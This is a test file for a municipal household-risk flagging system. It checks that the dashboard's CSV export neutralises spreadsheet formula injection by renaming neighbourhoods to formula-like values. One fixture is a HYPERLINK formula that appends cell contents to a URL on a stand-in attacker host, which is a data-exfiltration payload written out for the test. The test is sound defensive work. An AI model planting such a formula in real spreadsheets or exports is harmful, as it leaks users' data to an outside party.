import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingestFeed } from '../../server/src/services/feed-ingest.ts';
import { importRegistry } from '../../server/src/services/registry-import.ts';
import { readRuleSetFile, storeRuleSet } from '../../server/src/services/rule-sets.ts';
import { scoreAsOf } from '../../server/src/services/scoring.ts';
import { runCli } from '../helpers/cli.ts';
import { DIALECTS } from '../helpers/databases.ts';
import { EXAMPLE_DIR, engineContext, tempFile } from '../helpers/engine.ts';
import { createApiFixture, type ApiFixture } from './support/fixture.ts';

// The dashboard's CSV export is opened in a spreadsheet: a wijk name (or any cell) that
// a spreadsheet would run as a formula is neutralised. `mpg flags export` keeps the
// contract's bytes (section 5).

const HYPERLINK = '=HYPERLINK("https://aanvaller.example/?d="&A2,"Klik hier")';
const WIJKEN: Record<string, string> = { Beijum: HYPERLINK, Vinkhuizen: '-Noord', Lewenborg: '@SUM(1+1)' };

/** The example registry with its wijken renamed (CSV-quoted, the file is comma-separated). */
function renamedRegistry(): string {
  const text = fs.readFileSync(path.join(EXAMPLE_DIR, 'registry.csv'), 'utf8');
  return text.replace(/,(Beijum|Vinkhuizen|Lewenborg)$/gm, (_, w: string) => `,"${WIJKEN[w]!.replace(/"/g, '""')}"`);
}

describe.each(DIALECTS)('CSV exports are safe to open (%s)', (dialect) => {
  let f: ApiFixture;
  let runId: number;
  beforeAll(async () => {
    f = await createApiFixture(dialect, {}, false);
    const ctx = engineContext(f.t.db);
    await importRegistry(ctx, tempFile('registry.csv', renamedRegistry()));
    for (const feed of ['feed-1.csv', 'feed-2.csv']) await ingestFeed(ctx, path.join(EXAMPLE_DIR, feed));
    await storeRuleSet(ctx, await readRuleSetFile(path.join(EXAMPLE_DIR, 'ruleset.json')), true);
    runId = (await scoreAsOf(ctx, '2026-10-01')).runId;
  });
  afterAll(async () => f?.close());

  it('the dashboard export prefixes formula cells with a quote and quotes them', async () => {
    const coordinator = await f.login('coordinator');
    const res = await coordinator.request({ method: 'GET', url: `/api/runs/${runId}/flags.csv` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.body.split('\n');
    expect(lines[0]).toBe('address_key,wijk,score,domains,indicators,weeks_on_list,triage_status,assigned_to,first_contact_due');
    expect(lines[1]).toBe(`9711AA-1-,"'${HYPERLINK.replace(/"/g, '""')}",7,3,huurachterstand|overlastmelding|schoolverzuim,1,nieuw,,2026-10-29`);
    expect(lines[2]).toBe(`9712BB-10-A,"'-Noord",6,2,jeugd_politiecontact|schooluitval,1,nieuw,,2026-10-29`);
    expect(lines[3]).toBe(`9713CC-5-,"'@SUM(1+1)",6,3,ggz_zorg|opvoedzorg|zorgverzekeringsachterstand,1,nieuw,,2026-10-29`);
    // No cell of the file starts with a character a spreadsheet runs.
    expect(lines.filter((l) => /(^|,)"?[=+\-@\t\r]/.test(l))).toEqual([]);
  });

  it('`mpg flags export` stays exactly the contract: the wijk as registered, quoted only where CSV needs it', async () => {
    const r = await runCli(['flags', 'export', '--run', String(runId), '--format', 'csv'], { DATABASE_URL: f.t.url });
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(
      [
        'address_key,wijk,score,domains,indicators',
        `9711AA-1-,"${HYPERLINK.replace(/"/g, '""')}",7,3,huurachterstand|overlastmelding|schoolverzuim`,
        '9712BB-10-A,-Noord,6,2,jeugd_politiecontact|schooluitval',
        '9713CC-5-,@SUM(1+1),6,3,ggz_zorg|opvoedzorg|zorgverzekeringsachterstand',
        '',
      ].join('\n'),
    );
  }, 60_000);
});
